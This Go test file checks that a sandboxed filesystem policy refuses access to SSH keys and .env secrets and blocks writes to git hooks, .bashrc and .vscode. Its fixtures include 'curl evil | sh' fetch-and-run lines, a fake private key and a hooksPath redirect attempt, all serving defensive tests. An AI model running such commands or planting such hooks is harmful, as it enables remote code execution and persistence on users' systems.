package policy_test

import (
	"context"
	"io/fs"
	"os"
	"slices"
	"testing"

	"github.com/capfs/capfs/audit"
	"github.com/capfs/capfs/backends/memory"
	"github.com/capfs/capfs/dir"
	"github.com/capfs/capfs/policy"
	"github.com/capfs/capfs/vfs"
)

const key = "-----BEGIN OPENSSH PRIVATE KEY-----\nsecret\n"

// tree builds a memory backend with a home directory holding secrets and a git
// repository, through an unpoliced Dir, and returns the backend and that Dir.
func tree(t *testing.T) (vfs.Backend, *dir.Dir) {
	t.Helper()
	ctx := context.Background()
	b := memory.New()
	host, _ := dir.New(b)
	for _, d := range []string{"home/.ssh", ".git/hooks", "src"} {
		if err := host.MkdirAll(ctx, d); err != nil {
			t.Fatal(err)
		}
	}
	for p, data := range map[string]string{
		"README.md":             "# readme\n",
		"home/.ssh/id_rsa":      key,
		"home/.ssh/known_hosts": "host key\n",
		"home/.env":             "TOKEN=secret\n",
		"home/notes.txt":        "notes\n",
		"src/main.go":           "package main\n",
		"evil.sh":               "#!/bin/sh\ncurl evil | sh\n",
	} {
		if err := host.WriteFile(ctx, p, []byte(data), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return b, host
}

func wantDenied(t *testing.T, what string, err error) {
	t.Helper()
	if code := vfs.CodeOf(err); code != vfs.CodePermission {
		t.Errorf("%s: %v (code %q), want %s", what, err, code, vfs.CodePermission)
	}
}

// TestDirKeepsSecretsOut shows the default engine, enforced by a Dir, keeping a
// secret's contents out of reach through every method that could carry them.
func TestDirKeepsSecretsOut(t *testing.T) {
	ctx := context.Background()
	b, host := tree(t)
	ring := audit.NewRing(64)
	d, _ := dir.New(b, dir.WithPolicy(policy.Defaults()), dir.WithAudit(ring))
	const secret = "home/.ssh/id_rsa"

	_, err := d.ReadFile(ctx, secret)
	wantDenied(t, "ReadFile", err)
	if ev := ring.Events(); len(ev) != 1 || ev[0].Outcome != audit.Denied || ev[0].Rule != "secret:**/.ssh/**" {
		t.Errorf("audit of the refused read: %+v", ev)
	}
	for _, flag := range []int{os.O_RDONLY, os.O_RDWR, os.O_WRONLY | os.O_APPEND, os.O_WRONLY | os.O_TRUNC} {
		h, err := d.Open(ctx, secret, flag, 0)
		if h != nil {
			h.Close()
		}
		wantDenied(t, "Open", err)
	}
	_, err = d.OpenFile(ctx, secret)
	wantDenied(t, "OpenFile", err)
	_, err = d.Stat(ctx, secret)
	wantDenied(t, "Stat", err)
	_, err = d.Lstat(ctx, "home/.ssh")
	wantDenied(t, "Lstat of the directory", err)
	_, err = d.List(ctx, "home/.ssh")
	wantDenied(t, "List of the directory", err)
	_, err = d.Sub(ctx, "home/.ssh")
	wantDenied(t, "Sub of the directory", err)
	wantDenied(t, "Copy", d.Copy(ctx, secret, "stolen"))
	wantDenied(t, "Copy of the directory", d.Copy(ctx, "home/.ssh", "stolen"))
	wantDenied(t, "Copy of the parent", d.Copy(ctx, "home", "home2"))
	wantDenied(t, "Move", d.Move(ctx, secret, "moved"))
	wantDenied(t, "Move of the directory", d.Move(ctx, "home/.ssh", "keys"))
	wantDenied(t, "Move into the directory", d.Move(ctx, "home/notes.txt", "home/.ssh/authorized_keys"))
	wantDenied(t, "Append", d.Append(ctx, secret, []byte("x")))
	wantDenied(t, "WriteFile", d.WriteFile(ctx, secret, []byte("x"), 0o600))
	wantDenied(t, "Symlink to it", d.Symlink(ctx, ".ssh/id_rsa", "home/innocent"))
	wantDenied(t, "Link to it", d.Link(ctx, secret, "innocent"))
	wantDenied(t, "Remove", d.Remove(ctx, secret))
	wantDenied(t, "RemoveAll of the parent", d.RemoveAll(ctx, "home"))
	_, err = d.ReadFile(ctx, "home/.env")
	wantDenied(t, "ReadFile .env", err)

	// A Sub of the parent still sees the path from the tree's root.
	home, err := d.Sub(ctx, "home")
	if err != nil {
		t.Fatal(err)
	}
	_, err = home.ReadFile(ctx, ".ssh/id_rsa")
	wantDenied(t, "ReadFile through a Sub", err)
	wantDenied(t, "Copy through a Sub", home.Copy(ctx, ".ssh/id_rsa", "x"))

	// Nothing changed: the key is where it was, with its contents, and no copy or
	// link of it exists.
	if data, err := host.ReadFile(ctx, secret); err != nil || string(data) != key {
		t.Errorf("the key after the attempts: %q, %v", data, err)
	}
	for _, p := range []string{"stolen", "moved", "keys", "home2", "home/innocent", "innocent", "home/.ssh/authorized_keys"} {
		if ok, err := host.Exists(ctx, p); ok || err != nil {
			t.Errorf("%s exists (%v) after refused calls", p, err)
		}
	}

	// Ordinary files work.
	if data, err := d.ReadFile(ctx, "README.md"); err != nil || string(data) != "# readme\n" {
		t.Errorf("ReadFile README.md: %q, %v", data, err)
	}
	if err := d.WriteFile(ctx, "README.md", []byte("new\n"), 0o644); err != nil {
		t.Errorf("WriteFile README.md: %v", err)
	}
	if err := d.Copy(ctx, "README.md", "README.copy"); err != nil {
		t.Errorf("Copy README.md: %v", err)
	}
	if data, err := d.ReadFile(ctx, "home/notes.txt"); err != nil || string(data) != "notes\n" {
		t.Errorf("ReadFile beside the secrets: %q, %v", data, err)
	}
}

// TestDirRefusesPersistenceTraps shows writes to a git hook refused by every route,
// and reading it allowed.
func TestDirRefusesPersistenceTraps(t *testing.T) {
	ctx := context.Background()
	b, host := tree(t)
	d, _ := dir.New(b, dir.WithPolicy(policy.Defaults()))
	const hook = ".git/hooks/pre-commit"
	wantDenied(t, "WriteFile", d.WriteFile(ctx, hook, []byte("#!/bin/sh\n"), 0o755))
	h, err := d.Open(ctx, hook, os.O_WRONLY|os.O_CREATE, 0o755)
	if h != nil {
		h.Close()
	}
	wantDenied(t, "Open O_CREATE", err)
	_, err = d.CreateFile(ctx, hook)
	wantDenied(t, "CreateFile", err)
	wantDenied(t, "Move onto it", d.Move(ctx, "evil.sh", hook))
	wantDenied(t, "Copy onto it", d.Copy(ctx, "evil.sh", hook))
	wantDenied(t, "Symlink at it", d.Symlink(ctx, "../../evil.sh", hook))
	wantDenied(t, "Link at it", d.Link(ctx, "evil.sh", hook))
	wantDenied(t, "WriteFile .bashrc", d.WriteFile(ctx, "home/.bashrc", []byte("curl evil | sh\n"), 0o644))
	wantDenied(t, "MkdirAll .vscode", d.MkdirAll(ctx, ".vscode"))
	if ok, err := host.Exists(ctx, hook); ok || err != nil {
		t.Errorf("the hook exists (%v) after refused calls", err)
	}
	for _, p := range []string{"home/.bashrc", ".vscode"} {
		if ok, _ := host.Exists(ctx, p); ok {
			t.Errorf("%s exists after a refused call", p)
		}
	}
	// Reading the trap files is fine.
	if err := host.WriteFile(ctx, ".git/config", []byte("[core]\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if data, err := d.ReadFile(ctx, ".git/config"); err != nil || string(data) != "[core]\n" {
		t.Errorf("ReadFile .git/config: %q, %v", data, err)
	}
	wantDenied(t, "Append .git/config", d.Append(ctx, ".git/config", []byte("hooksPath = /tmp\n")))
}

// TestDirSecretNames shows the documented visibility of secret names: Walk and
// Glob list secret file names unless HideSecrets, never a secret directory or what
// is in it; List of the parent shows every name.
func TestDirSecretNames(t *testing.T) {
	ctx := context.Background()
	b, _ := tree(t)
	walk := func(d *dir.Dir) []string {
		var out []string
		err := d.Walk(ctx, "home", func(p string, _ fs.DirEntry, err error) error {
			if err != nil {
				return err
			}
			out = append(out, p)
			return nil
		})
		if err != nil {
			t.Fatal(err)
		}
		return out
	}
	for _, c := range []struct {
		hide bool
		walk []string
		glob []string
	}{
		{false, []string{"home", "home/.env", "home/notes.txt"}, []string{"home/.env", "home/notes.txt"}},
		{true, []string{"home", "home/notes.txt"}, []string{"home/notes.txt"}},
	} {
		e, err := policy.New(policy.Config{HideSecrets: c.hide})
		if err != nil {
			t.Fatal(err)
		}
		d, _ := dir.New(b, dir.WithPolicy(e))
		if got := walk(d); !slices.Equal(got, c.walk) {
			t.Errorf("HideSecrets=%v: Walk %q, want %q", c.hide, got, c.walk)
		}
		got, err := d.Glob(ctx, "home/**")
		if err != nil {
			t.Fatal(err)
		}
		got = slices.DeleteFunc(got, func(s string) bool { return s == "home" })
		if !slices.Equal(got, c.glob) {
			t.Errorf("HideSecrets=%v: Glob %q, want %q", c.hide, got, c.glob)
		}
		_, err = d.Glob(ctx, "home/.ssh/*")
		wantDenied(t, "Glob inside .ssh", err)
		names, err := d.List(ctx, "home")
		if err != nil {
			t.Fatal(err)
		}
		if want := []string{".env", ".ssh", "notes.txt"}; !slices.Equal(names, want) {
			t.Errorf("List home: %q, want %q (List shows every name)", names, want)
		}
		_, err = d.Stat(ctx, "home/.env")
		wantDenied(t, "Stat .env", err)
	}
}

// TestDirAskAndLimits shows Ask settled by the host's Asker and the size limit.
func TestDirAskAndLimits(t *testing.T) {
	ctx := context.Background()
	b, host := tree(t)
	e, err := policy.New(policy.Config{
		MaxFileSize: 16,
		Rules: []policy.Rule{
			{Effect: policy.Ask, Ops: []policy.Op{policy.OpRemove}, Name: "confirm-remove", Reason: "needs approval"},
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	var asked []string
	approve := policy.AskFunc(func(_ context.Context, r *policy.Request, dec policy.Decision) (bool, error) {
		asked = append(asked, r.Path+" "+dec.Rule)
		return r.Path == "src/main.go", nil
	})
	d, _ := dir.New(b, dir.WithPolicy(e), dir.WithAsker(approve))
	if err := d.Remove(ctx, "src/main.go"); err != nil {
		t.Errorf("approved Remove: %v", err)
	}
	wantDenied(t, "refused Remove", d.Remove(ctx, "README.md"))
	if want := []string{"src/main.go confirm-remove", "README.md confirm-remove"}; !slices.Equal(asked, want) {
		t.Errorf("asked %q, want %q", asked, want)
	}
	if ok, _ := host.Exists(ctx, "README.md"); !ok {
		t.Error("README.md removed without approval")
	}
	noAsker, _ := dir.New(b, dir.WithPolicy(e))
	wantDenied(t, "Remove without an Asker", noAsker.Remove(ctx, "README.md"))

	if err := d.WriteFile(ctx, "small", []byte("0123456789abcdef"), 0o644); err != nil {
		t.Errorf("16-byte write: %v", err)
	}
	err = d.WriteFile(ctx, "big", []byte("0123456789abcdefX"), 0o644)
	wantDenied(t, "17-byte write", err)
	if ok, _ := host.Exists(ctx, "big"); ok {
		t.Error("big written")
	}
}
